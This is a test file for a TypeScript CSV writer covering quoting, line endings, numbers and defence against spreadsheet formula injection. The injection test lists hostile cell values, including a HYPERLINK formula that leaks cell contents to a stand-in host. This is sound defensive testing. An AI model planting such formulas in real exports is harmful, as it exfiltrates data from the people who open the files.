import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvLine, csvText } from "./csv-writer";

describe("the CSV writer", () => {
  it("quotes only where needed and ends lines with CRLF", () => {
    expect(
      csvText([
        ["a", "b c", 1, true, null],
        ['say "hi"', "x,y", "line\nbreak", " padded", "a;b"],
      ]),
    ).toBe('a,b c,1,true,\r\n"say ""hi""","x,y","line\nbreak"," padded","a;b"\r\n');
  });

  it("quotes every field when asked", () => {
    expect(csvLine(["a", 2], { quoteAll: true })).toBe('"a","2"\r\n');
  });

  it("neutralises every text a spreadsheet would run as a formula", () => {
    const payloads = [
      '=HYPERLINK("https://evil.example/?leak="&A1,"Details")',
      "+1+1",
      "-2+3",
      "@SUM(A1)",
      "\tx",
      "\rx",
      "\n=1+1",
      " =1+1",
      "\u00a0+1",
      "\uff1dSUM(A1)",
    ];
    const [row] = parse(csvText([payloads]), { relax_quotes: true }) as string[][];
    for (const cell of row ?? []) expect(cell.startsWith("'")).toBe(true);
    expect(row).toHaveLength(payloads.length);
  });

  it("leaves ordinary text alone", () => {
    expect(csvLine(["Bänke am See", "a=b", "E-Mail", " leading blank"])).toBe(
      'Bänke am See,a=b,E-Mail," leading blank"\r\n',
    );
  });

  it("writes numbers as they are and drops values that are not finite", () => {
    expect(csvLine([0, -1.5, Number.NaN, Number.POSITIVE_INFINITY])).toBe("0,-1.5,,\r\n");
  });

  it("gives an empty text for no rows", () => {
    expect(csvText([])).toBe("");
  });
});
